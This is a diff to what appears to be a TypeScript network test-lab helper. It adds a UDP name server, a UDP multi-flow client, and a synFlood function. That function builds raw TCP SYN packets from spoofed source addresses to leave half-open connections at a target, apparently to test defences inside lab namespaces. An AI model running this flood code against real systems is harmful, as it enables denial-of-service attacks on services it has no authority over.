@@ -76,6 +76,64 @@ for step in sys.argv[3:]:
         c.shutdown(socket.SHUT_WR); print(f.read().decode().strip(), flush=True)
 `;
 
+/** UDP server: each datagram gets "NAME:DATA" back. */
+const UDP_NAME_SERVER = String.raw`
+import socket, sys
+name, port = sys.argv[1].encode(), int(sys.argv[2])
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', port))
+while True:
+    d, a = s.recvfrom(2048); s.sendto(name + b':' + d, a)
+`;
+
+export function startUdpNameServer(lab: Lab, ns: string, name: string, port: number): void {
+  lab.spawnIn(ns, 'python3', ['-c', UDP_NAME_SERVER, name, String(port)], `${name}-udp-${port}.log`);
+}
+
+/**
+ * n UDP flows from ns (a fresh socket, so a fresh source port, each) to host:port, one datagram
+ * each (up to 3 tries, 1 s apart); returns each answer ('' when none came).
+ */
+export async function udpAskMany(lab: Lab, ns: string, host: string, port: number, n: number): Promise<string[]> {
+  const py = String.raw`
+import socket, sys
+host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+for i in range(n):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.0); got = ''
+    for _ in range(3):
+        s.sendto(b'ping%d' % i, (host, port))
+        try: got = s.recv(2048).decode(); break
+        except socket.timeout: pass
+    print(got or 'NONE', flush=True); s.close()
+`;
+  const out = await lab.mustExec(ns, 'python3', ['-c', py, host, String(port), String(n)], 120_000);
+  return out.trim().split('\n').map((l) => (l === 'NONE' ? '' : l));
+}
+
+/**
+ * A SYN flood from ns: `count` raw TCP SYNs to host:port from spoofed sources 192.0.2.200-249
+ * (addresses no namespace holds, so the SYN-ACKs go unanswered and every SYN leaves a half-open
+ * connection at the target), random source ports. Resolves when all are sent.
+ */
+export async function synFlood(lab: Lab, ns: string, host: string, port: number, count: number): Promise<void> {
+  const py = String.raw`
+import random, socket, struct, sys
+dst, dport, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+def csum(b):
+    if len(b) % 2: b += b'\x00'
+    t = sum(struct.unpack('!%dH' % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
+    return ~t & 0xffff
+d = socket.inet_aton(dst)
+for i in range(n):
+    src = socket.inet_aton('192.0.2.%d' % (200 + i % 50)); sport = random.randint(1024, 65535)
+    tcp = struct.pack('!HHIIBBHHH', sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
+    tcp = tcp[:16] + struct.pack('!H', csum(src + d + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)) + tcp[18:]
+    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, i & 0xffff, 0, 64, 6, 0, src, d)
+    s.sendto(ip + tcp, (dst, 0))
+`;
+  await lab.mustExec(ns, 'python3', ['-c', py, host, String(port), String(count)], 120_000);
+}
+
 export function startNameServer(lab: Lab, ns: string, name: string, port = 80, proxyV2 = false): void {
   lab.spawnIn(ns, 'python3', ['-c', NAME_SERVER, name, String(port), ...(proxyV2 ? ['pp'] : [])], `${name}-${port}.log`);
 }
